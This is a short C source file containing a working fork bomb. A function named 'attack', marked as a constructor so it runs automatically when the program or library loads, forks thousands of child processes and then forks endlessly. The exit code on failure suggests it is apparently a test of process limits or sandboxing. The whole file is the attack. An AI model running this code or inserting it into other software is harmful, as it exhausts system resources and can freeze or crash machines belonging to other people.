/* As many processes as there can be. */
#define _POSIX_C_SOURCE 200809L
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    int children = 0;
    for (int i = 0; i < 5000; i++)
        if (fork() >= 0)
            children++;
    if (children < 50)
        _exit(78);
    for (;;)
        fork();
}
